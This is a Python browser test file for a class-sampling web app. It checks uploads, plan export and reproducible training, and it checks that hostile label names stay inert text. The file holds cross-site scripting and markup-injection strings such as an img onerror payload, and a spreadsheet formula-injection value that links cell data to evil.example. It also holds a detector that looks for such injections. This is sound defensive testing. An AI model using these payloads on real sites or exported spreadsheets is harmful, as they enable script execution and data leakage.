"""My labels in Chromium: a real upload, hostile names, phones."""

import csv
import io
import json
import subprocess
import sys
from itertools import product
from urllib.parse import unquote

import numpy as np

from sampler_core import ClassCounts, Linear, PowerSkew, SamplingPlan
from sampler_core.exporting.csv_tables import FORMULA_STARTS
from tests.browser.conftest import settle, traces
from tests.hostile_names import hostile_counts
from tests.servers import ROOT

PATH = "/?data=my+labels&skew=0.2&increment=0.05&limit=1&epochs=30&batch=64&epoch=7&seed=5"
PLAN = SamplingPlan(target=PowerSkew(Linear(0.2, 0.05, maximum=1.0)), epochs=30, batch_size=64, seed=5)
ANIMALS = {"zebra": 900, "ant": 300, "emu, grey": 41, "日本": 12}
# As the readers take them: no NUL, no half character, none that means "no label", at most 1,000 characters.
HOSTILE = {name[:1000]: n for name, n in hostile_counts().items() if not {"\0", "\ud800"} & {*name} and name != "NaN"}


def table(counts):
    """A CSV file with a text label in each row, not sorted."""
    labels = np.repeat(list(counts), list(counts.values()))
    np.random.default_rng(3).shuffle(labels)
    rows = [f'{row},"{label}",{row / 7:.2f}\r\n' for row, label in enumerate(labels)]
    return ("id,animal,weight\r\n" + "".join(rows)).encode()


def upload(page, name, content, said):
    """Bring a file, and wait for what the sidebar says of it."""
    file = {"name": name, "mimeType": "application/octet-stream", "buffer": content}
    page.set_input_files("[class*='st-key-own-file-'] input[type=file]", file)
    page.get_by_text(said).first.wait_for()
    settle(page)


TRAINING = """
import json, sys
import numpy as np, torch
from torch.utils.data import DataLoader, TensorDataset
from sampler_core import SamplingPlan, ScheduledClassSampler
from sampler_core.datasets import read_labels

plan = SamplingPlan.from_json(open(sys.argv[1], encoding="utf-8").read())
labels = read_labels(sys.argv[2])
dataset = TensorDataset(torch.arange(len(labels)))
sampler = ScheduledClassSampler(labels, plan)
loader = DataLoader(dataset, batch_size=plan.batch_size, sampler=sampler, num_workers=1)
sampler.set_epoch(7)
batches = [[str(labels[i]) for i in indices] for indices, in loader]
json.dump([{name: batch.count(name) for name in sys.argv[3:]} for batch in batches], sys.stdout)
"""


def test_the_plan_of_an_uploaded_file_trains_from_that_file_on_the_batches_of_the_page(open_page, tmp_path):
    page = open_page(PATH)
    upload(page, "animals.csv", table(ANIMALS), "1,253 samples of 4 classes")
    counts = ClassCounts.from_counts(dict(sorted(ANIMALS.items())))
    shares = {trace["name"]: trace["y"] for trace in traces(page, "shares")}
    for name in ANIMALS:
        assert np.allclose(shares[name], PLAN.class_shares(counts)[:, counts.position(name)], atol=1e-6)
    shown = {trace["name"]: trace["y"] for trace in traces(page, "batches")}
    page.get_by_role("button", name="Share", exact=True).click()
    page.get_by_role("dialog").get_by_role("tab", name="Plan").click()
    with page.expect_download() as saving:
        page.get_by_role("dialog").get_by_role("button", name="Download plan.json").click()
    saving.value.save_as(tmp_path / "plan.json")
    (tmp_path / "animals.csv").write_bytes(table(ANIMALS))
    command = [sys.executable, "-W", "error", "-c", TRAINING, tmp_path / "plan.json", tmp_path / "animals.csv"]
    done = subprocess.run([*command, *ANIMALS], cwd=ROOT, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    trained = json.loads(done.stdout)
    assert len(trained) == 20
    assert {name: [batch[name] for batch in trained] for name in ANIMALS} == shown


INTRUDERS = r"""() => [...document.querySelectorAll('*')].filter((found) =>
  [...found.attributes].some((one) => /^on/.test(one.name) && /hit/.test(one.value))
  || /evil\.example|^javascript:/.test(found.getAttribute('href') ?? found.getAttribute('xlink:href') ?? '')
  || (found.tagName === 'IMG' && found.getAttribute('src') === 'x')
  || (found.tagName === 'SCRIPT' && found.type !== 'application/json' && found.textContent.includes('window.hit'))
  ).map((found) => found.outerHTML)"""


def unharmed(page):
    """Nothing in a name ran, and none became an element, a link, a formula or bold."""
    assert page.evaluate("window.hit") is None
    assert page.evaluate(INTRUDERS) == []
    assert page.locator(".katex-error, .katex :text('x^2')").count() == 0
    assert page.locator("b:text-is('bold'), strong:text-is('bold'), tspan:text-is('bold')").count() == 0


def hovered(page, chart):
    """What the figure says of the points under a mouse that goes over it column by column."""
    plot = page.locator(f"[data-chart='{chart}']")
    plot.scroll_into_view_if_needed()
    box, said = plot.bounding_box(), set()
    for column, row in product((0.33, 0.68), range(8, 96, 3)):
        page.mouse.move(box["x"] + column * box["width"], box["y"] + row / 100 * box["height"])
        page.wait_for_timeout(60)  # plotly looks for what is under the mouse every 50 ms
        said |= set(page.locator(f"[data-chart='{chart}'] .hoverlayer text").all_text_contents())
    return " ".join(said)


def test_hostile_names_are_text_under_the_mouse_on_every_page_and_data_in_all_that_share_hands_out(
    open_page, browser, tmp_path
):
    """One page for all of it, with every hostile name that the readers take."""
    page = open_page("/?data=my+labels", height=2600)
    upload(page, "<b>bold.json", json.dumps(HOSTILE).encode(), f"samples of {len(HOSTILE)} classes")
    are_text_under_the_mouse(page)
    are_text_on_every_page(page)
    are_data_in_all_that_share_hands_out(page, browser, tmp_path)


def are_text_on_every_page(page):
    for fold in ("First rows", "Correct the classes", "The same numbers as tables"):
        page.get_by_text(fold, exact=True).click()
        settle(page, 400)
    unharmed(page)
    for title in ("Compare", "Tune", "Explore"):
        page.get_by_role("link", name=title).click()
        page.wait_for_function("(title) => document.title.startsWith(`${title}: `)", arg=title)
        settle(page, 400)
        unharmed(page)
        assert "data=my" in page.url
        assert "evil" not in unquote(page.url)
        assert page.evaluate("document.documentElement.scrollWidth") <= 1280
    assert page.get_by_text("<b>bold.json").count() >= 1
    assert page.locator("svg text").get_by_text("<img src….hit=1>", exact=True).count() >= 1


def are_text_under_the_mouse(page):
    said = hovered(page, "weights")
    assert "<img src=x onerror=window.hit=1>: " in said
    assert "%{x} %{customdata}: " in said
    assert "<b>bold</b><a" in said
    unharmed(page)


def are_data_in_all_that_share_hands_out(page, browser, tmp_path):
    page.get_by_role("button", name="Share", exact=True).click()
    dialog = page.get_by_role("dialog")

    def saved(tab, button):
        dialog.get_by_role("tab", name=tab).click()
        with page.expect_download() as saving:
            dialog.get_by_role("button", name=button, exact=True).click()
        path = tmp_path / saving.value.suggested_filename
        saving.value.save_as(path)
        return path

    plan = SamplingPlan.from_json(saved("Plan", "Download plan.json").read_text(encoding="utf-8"))
    assert dict(zip(plan.tuned_on.names, plan.tuned_on.counts.tolist(), strict=True)) == HOSTILE
    text = saved("Tables", "Share of every class").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    assert any(cell == '\'=HYPERLINK("http://evil.example/?"&A1,"click")' for row in rows for cell in row)
    dialog.get_by_role("tab", name="Code").click()
    names = {}
    code = dialog.get_by_test_id("stCode").locator("code").text_content()
    exec(compile(code.partition("\nsampler = ")[0], "snippet", "exec"), names)
    assert names["plan"] == plan
    unharmed(page)
    report = saved("Report", "Download the report")
    context = browser.new_context(offline=True)
    opened = context.new_page()
    opened.goto(report.as_uri())
    opened.wait_for_selector("body[data-drawn=true]")
    opened.locator("details").evaluate_all("(all) => all.forEach((one) => { one.open = true; })")
    unharmed(opened)
    context.close()


def test_a_phone_has_room_for_it(open_page):
    page = open_page("/?data=my+labels", width=390)
    page.get_by_test_id("stExpandSidebarButton").click()
    upload(page, "a-rather-long-name-of-a-file-" * 4 + ".csv", table(ANIMALS), "1,253 samples of 4 classes")
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    sidebar = page.get_by_test_id("stSidebarUserContent")
    assert sidebar.evaluate("(box) => box.scrollWidth <= box.clientWidth")


def test_leaving_the_page_asks_while_there_are_labels_and_only_then(open_page):
    page, asked = open_page("/?data=my+labels"), []
    page.on("dialog", lambda dialog: (asked.append(dialog.type), dialog.accept()))
    page.get_by_role("heading", level=1).click()  # a browser asks for nobody who touched nothing
    page.reload()
    settle(page)
    upload(page, "animals.csv", table(ANIMALS), "1,253 samples of 4 classes")
    page.get_by_role("link", name="Compare").click()
    page.wait_for_function("() => document.title.startsWith('Compare: ')")
    settle(page)
    assert asked == []
    page.reload()
    settle(page)
    assert asked == ["beforeunload"]
    page.get_by_role("heading", level=1).click()
    page.reload()
    settle(page)
    assert asked == ["beforeunload"]
